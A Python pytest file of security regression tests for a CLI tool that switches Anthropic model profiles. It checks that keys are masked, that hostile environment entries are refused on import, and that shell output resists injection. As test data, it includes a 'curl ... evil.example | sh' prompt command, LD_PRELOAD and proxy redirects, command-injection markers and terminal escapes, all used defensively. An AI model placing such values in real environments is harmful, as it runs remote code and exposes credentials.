"""Security review regressions: a key that goes nowhere it should not, switches that never go
half-way, and shell output that attacker-influenced text cannot turn into code.

Each test here failed before its fix (or guards a property nothing else checked), see the
comment above it. Keys are fake (sk-test-...).
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
from pathlib import Path

import pytest
from anthropic_server import AnthropicServer

from helpers import require_tool
from modelswitch.launch import start as launch
from modelswitch import resolve
from modelswitch.keys import store as secrets
from modelswitch.profile.schema import Profile
from modelswitch.shells import NAMES, get
from modelswitch.shells.hooks import hook
from modelswitch.profile.storage import write_profile

KEY = "sk-test-security-0123456789abcdef"
CREDENTIALS = set(resolve.CREDENTIAL_VARS)


def set_vars(changes) -> dict[str, str]:
    return {k: v for k, v in changes.items() if v is not None}


# -- never ANTHROPIC_BASE_URL without a credential -------------------------------------------
# An [env] entry for ANTHROPIC_BASE_URL (or any variable a field sets) used to bypass the rule
# that a base URL always comes with a credential: claude then sent the claude.ai login there,
# and `test` sent the key to a different host than claude would. Such entries are now a
# schema error in profile files, and resolve() ignores them in profiles built in code.

ENV_URL = "https://elsewhere.example/anthropic"


@pytest.mark.parametrize("auth", ["bearer", "api-key"])
def test_env_table_cannot_override_a_field_variable(auth):
    profile = Profile(name="envurl", auth=auth, key_source="none", model="m",
                      env={"ANTHROPIC_BASE_URL": ENV_URL, "ANTHROPIC_MODEL": "other"})
    values = set_vars(resolve.resolve(profile, secrets.MemoryStore()))
    assert "ANTHROPIC_BASE_URL" not in values and values["ANTHROPIC_MODEL"] == "m"
    assert not CREDENTIALS & set(values)


@pytest.mark.parametrize("base_url, env, key_source, key", [
    ("", {}, "none", None),
    ("https://a.example", {}, "none", None),
    ("", {"ANTHROPIC_BASE_URL": ENV_URL}, "none", None),
    ("https://a.example", {"ANTHROPIC_BASE_URL": ENV_URL}, "none", None),
    ("", {"ANTHROPIC_BASE_URL": ENV_URL}, "keyring", KEY),
    ("", {"ANTHROPIC_BASE_URL": ""}, "none", None),
    ("", {"CLAUDE_CODE_USE_BEDROCK": "1"}, "none", None),
])
def test_every_profile_shape_sends_a_base_url_only_with_one_credential(base_url, env, key_source,
                                                                        key):
    profile = Profile(name="p", base_url=base_url, env=env, key_source=key_source)
    store = secrets.MemoryStore({"p": key} if key else {})
    values = set_vars(resolve.resolve(profile, store, {"ANTHROPIC_API_KEY": "sk-test-user-own"}))
    if values.get("ANTHROPIC_BASE_URL"):
        assert len(CREDENTIALS & {k for k, v in values.items() if v}) == 1, values


def test_env_output_run_settings_and_exec_env_carry_the_placeholder(cli_run, tmp_path):
    write_profile(Profile(name="keyless", base_url=ENV_URL, key_source="none", model="m"), overwrite=True)
    result = cli_run(["env", "keyless", "--shell", "json"])
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["set"]["ANTHROPIC_AUTH_TOKEN"] == resolve.PLACEHOLDER_TOKEN

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "claude").write_text("#!/bin/sh\nexit 0\n")
    (bin_dir / "claude").chmod(0o755)
    environ = {"PATH": str(bin_dir), "HOME": str(tmp_path)}
    plan = launch.plan_run("keyless", [], secrets.MemoryStore(), environ, cwd=tmp_path)
    for env in (plan.env, plan.settings["env"]):
        assert env["ANTHROPIC_BASE_URL"] == ENV_URL
        assert not env.get("ANTHROPIC_AUTH_TOKEN")  # run hands even the placeholder over by pipe
    assert plan.key.key == resolve.PLACEHOLDER_TOKEN
    assert plan.settings["apiKeyHelper"] == ""  # a settings file's helper is not sent there either
    plan = launch.plan_exec("keyless", ["claude"], secrets.MemoryStore(), environ)
    assert plan.env["ANTHROPIC_AUTH_TOKEN"] == resolve.PLACEHOLDER_TOKEN


@pytest.mark.parametrize("command", [["env", "p", "--shell", "bash"], ["test", "p"], ["show", "p"],
                                     ["run", "p", "--", "-p", "hi"]])
def test_profile_file_with_a_field_variable_in_env_is_refused_everywhere(cli_run, store, command):
    with AnthropicServer() as srv:
        path = write_profile(Profile(name="p", base_url="https://api.moonshot.ai/anthropic", model="m"),
                             overwrite=True)
        path.write_text(path.read_text() + f'\n[env]\nANTHROPIC_BASE_URL = "{srv.base_url}"\n')
        store.set("p", KEY)
        result = cli_run(command)
        assert srv.requests == []
    assert result.exit_code == 1
    assert f"{path}:" in result.stderr and "env.ANTHROPIC_BASE_URL" in result.stderr
    assert result.stdout == "" and KEY not in result.stderr


@pytest.mark.parametrize("var, flag", [("ANTHROPIC_BASE_URL", "--base-url"), ("ANTHROPIC_MODEL", "--model"),
                                       ("ANTHROPIC_API_KEY", "--key-stdin"), ("MODELSWITCH_VARS", None)])
def test_add_env_flag_cannot_set_a_field_variable(cli_run, var, flag):
    result = cli_run(["add", "p", "--base-url", "https://a.example", "--no-key", "--env", f"{var}=x"])
    assert result.exit_code == 2 and var in result.stderr
    if flag:
        assert flag in result.stderr


# -- shared files cannot bring code or a redirect --------------------------------------------
# Before the fix, import refused a `cmd:` key source (a command someone else wrote) but took
# any [env]: PROMPT_COMMAND ran in the user's shell at every prompt after `use`, NODE_OPTIONS
# in claude (which holds the key), HTTPS_PROXY saw the traffic.

@pytest.mark.parametrize("var, value", [
    ("PROMPT_COMMAND", "curl -s https://evil.example | sh"),
    ("NODE_OPTIONS", "--require /tmp/evil.js"),
    ("LD_PRELOAD", "/tmp/evil.so"),
    ("BASH_ENV", "/tmp/evil.sh"),
    ("PATH", "/tmp/evil:/usr/bin"),
    ("HTTPS_PROXY", "http://evil.example:8080"),
    ("NODE_TLS_REJECT_UNAUTHORIZED", "0"),
    ("CLAUDE_CODE_SHELL_PREFIX", "/tmp/evil"),
    ("ANTHROPIC_BASE_URL", "https://evil.example"),
])
def test_import_refuses_env_that_could_run_code_or_redirect(cli_run, store, tmp_path, var, value):
    shared = tmp_path / "shared.toml"
    shared.write_text(f'base_url = "https://api.moonshot.ai/anthropic"\nmodel = "kimi-k2"\n'
                      f'[env]\nAPI_TIMEOUT_MS = "600000"\n{var} = "{value}"\n')
    result = cli_run(["import", str(shared), "--key-stdin"], input=KEY + "\n")
    assert result.exit_code == 1 and var in result.stderr and result.stdout == ""
    assert not (tmp_path / "mshome" / "profiles" / "shared.toml").exists()
    assert store.get("shared") is None


def test_import_still_takes_every_bundled_preset(cli_run):
    presets = sorted((Path(__file__).parent.parent / "profiles").glob("*.toml"))
    assert presets
    for path in presets:
        result = cli_run(["import", str(path), "--name", f"x-{path.stem}", "--key-env", "K"])
        assert result.exit_code == 0, (path.name, result.stderr)


# -- show / list mask a key someone wrote into [env] -----------------------------------------
# Before the fix, `show`, `show --json` and `list --json` printed [env] values verbatim, so a
# token copied by hand from settings.json into a profile's [env] was printed in clear.

def test_show_and_list_mask_a_key_held_in_the_env_table(cli_run, isolated_home):
    (isolated_home / "profiles").mkdir(parents=True)
    (isolated_home / "profiles" / "hand.toml").write_text(
        'base_url = "https://a.example"\nkey_source = "none"\n[env]\n'
        f'UPSTREAM_AUTH = "{KEY}"\nOTHER = "{KEY}-2"\nAPI_TIMEOUT_MS = "600000"\n')
    outputs = [cli_run(args) for args in (["show", "hand"], ["show", "hand", "--json"],
                                          ["list", "--json"], ["list"])]
    assert all(r.exit_code == 0 for r in outputs), outputs
    for result in outputs:
        assert KEY[4:] not in result.stdout + result.stderr
    assert "API_TIMEOUT_MS=600000" in outputs[0].stdout  # ordinary settings stay readable
    shown = json.loads(outputs[1].stdout)["env"]
    assert shown["API_TIMEOUT_MS"] == "600000"
    assert shown["UPSTREAM_AUTH"] == secrets.mask(KEY)


def test_a_credential_variable_in_a_hand_written_env_table_is_refused_without_echoing_it(
        cli_run, isolated_home):
    (isolated_home / "profiles").mkdir(parents=True)
    path = isolated_home / "profiles" / "hand.toml"
    path.write_text(f'base_url = "https://a.example"\n[env]\nANTHROPIC_AUTH_TOKEN = "{KEY}"\n')
    for args in (["show", "hand"], ["env", "hand", "--shell", "bash"], ["list"]):
        result = cli_run(args)
        assert f"{path}:3:1: env.ANTHROPIC_AUTH_TOKEN" in result.stderr
        assert KEY[4:] not in result.stdout + result.stderr


# -- private files even under umask 000 (a guard: nothing here relies on the umask) ----------

def test_files_stay_private_under_a_permissive_umask(cli_run, isolated_home, tmp_path):
    old = os.umask(0)
    try:
        added = cli_run(["add", "p", "--base-url", "https://a.example", "--key-stdin"],
                        input=KEY + "\n")
        exported = cli_run(["export", "p", "-o", str(tmp_path / "p.toml")])
    finally:
        os.umask(old)
    assert added.exit_code == 0 and exported.exit_code == 0, (added, exported)
    modes = {path: stat.S_IMODE(path.stat().st_mode) for path in (
        isolated_home, isolated_home / "profiles", isolated_home / ".lock",
        isolated_home / "profiles" / "p.toml", tmp_path / "p.toml")}
    assert modes == {**{d: 0o700 for d in (isolated_home, isolated_home / "profiles")},
                     **{f: 0o600 for f in list(modes)[2:4]},
                     tmp_path / "p.toml": 0o644}  # export: no key, meant to be shared
    assert not [f for f in tmp_path.rglob("*") if f.is_file() and KEY.encode() in f.read_bytes()]


# -- keyring errors ------------------------------------------------------------------------
# A backend (any one PYTHON_KEYRING_BACKEND names) that put the password in its exception
# message had it printed: KeyringStore quoted the message's first sentence.

def test_a_keyring_backend_error_never_prints_the_key(cli_run):
    import keyring
    import keyring.backend
    import keyring.errors

    class Echoing(keyring.backend.KeyringBackend):
        priority = 1

        def get_password(self, service, username):
            return None

        def set_password(self, service, username, password):
            raise keyring.errors.PasswordSetError(f"cannot store {password!r} for {username}")

        def delete_password(self, service, username):
            raise keyring.errors.PasswordDeleteError("none")

    saved = keyring.get_keyring()
    keyring.set_keyring(Echoing())
    try:
        write_profile(Profile(name="p", base_url="https://a.example"), overwrite=True)
        secrets.set_default_store(secrets.KeyringStore())
        result = cli_run(["key", "set", "p", "--stdin"], input=KEY + "\n")
    finally:
        keyring.set_keyring(saved)
    assert result.exit_code == 1 and "PasswordSetError" in result.stderr
    assert KEY not in result.stderr + result.stdout


# -- the marker is attacker-influenced text --------------------------------------------------
HOSTILE_MARKER = ("A;touch /tmp/x,$(touch /tmp/x),`id`,B\nC,D E,'F',G=H,_OK,\u00e9X,X\r,%PATH%,"
                  "!X!,$Env:X,ANTHROPIC_MODEL")


@pytest.mark.parametrize("shell", NAMES)
def test_a_hostile_marker_only_ever_names_plain_variables(cli_run, monkeypatch, shell):
    write_profile(Profile(name="p", base_url="https://a.example", key_source="env:P_KEY"),
                  overwrite=True)
    monkeypatch.setenv("P_KEY", KEY)
    monkeypatch.setenv("MODELSWITCH_VARS", HOSTILE_MARKER)
    for args in (["env", "p"], ["off"]):
        result = cli_run([*args, "--shell", shell])
        assert result.exit_code == 0, result.stderr
        for bad in ("touch", "id`", "D E", "G=H", "\u00e9X", "%PATH%", "!X!", "Env:X;", "'F'"):
            assert bad not in result.stdout, (shell, args, bad)
    changes = resolve.resolve_off({"MODELSWITCH_VARS": HOSTILE_MARKER})
    assert "_OK" in changes and all(n.isascii() and n.isidentifier() for n in changes)


# -- the hook evaluates nothing when the program fails ---------------------------------------
# tests/integration/test_hooks_shells.py checks a failing `use` against the real program, which prints
# nothing on failure: a hook that ignored the exit status would still pass it. Here a stand-in
# program prints valid code and fails; the hook must not evaluate it.

STUB = """#!/bin/sh
case " $* " in
  *" fish "*) echo "set -gx MS_LEAKED half" ;;
  *) echo "export MS_LEAKED=half" ;;
esac
exit 3
"""
POSIX_DRIVER = """. "$HOOK_FILE"
modelswitch use p; echo "use=$? ${MS_LEAKED-unset}"
modelswitch off; echo "off=$? ${MS_LEAKED-unset}"
"""
FISH_DRIVER = """source $HOOK_FILE
modelswitch use p; echo "use=$status" (set -q MS_LEAKED; and echo $MS_LEAKED; or echo unset)
modelswitch off; echo "off=$status" (set -q MS_LEAKED; and echo $MS_LEAKED; or echo unset)
"""


@pytest.mark.integration
@pytest.mark.parametrize("shell", ["bash", "zsh", "dash", "ksh", "fish"])
def test_hook_evaluates_nothing_from_a_failing_program(shell, tmp_path):
    exe = require_tool(shell)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "modelswitch").write_text(STUB)
    (bin_dir / "modelswitch").chmod(0o755)
    hook_file = tmp_path / "hook"
    hook_file.write_text(hook(get(shell)))
    env = {k: v for k, v in os.environ.items() if k not in ("BASH_ENV", "ENV", "MS_LEAKED")}
    env.update(PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}", HOOK_FILE=str(hook_file),
               HOME=str(tmp_path), XDG_CONFIG_HOME=str(tmp_path / ".config"), ZDOTDIR=str(tmp_path))
    driver = FISH_DRIVER if shell == "fish" else POSIX_DRIVER
    done = subprocess.run([exe, "-c", driver], env=env, capture_output=True, text=True, timeout=60)
    assert done.stdout.split() == ["use=3", "unset", "off=3", "unset"], done.stderr


def test_doctor_shows_no_terminal_escapes_from_a_project_settings_file(cli_run, tmp_path, monkeypatch):
    project = tmp_path / "proj"
    (project / ".claude").mkdir(parents=True)
    (project / ".claude" / "settings.json").write_text(
        json.dumps({"env": {"ANTHROPIC_MODEL": "m\x1b]0;pwned\x07\x1b[2J"}}))
    monkeypatch.chdir(project)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    result = cli_run(["doctor"])
    assert "ANTHROPIC_MODEL" in result.stdout
    assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout
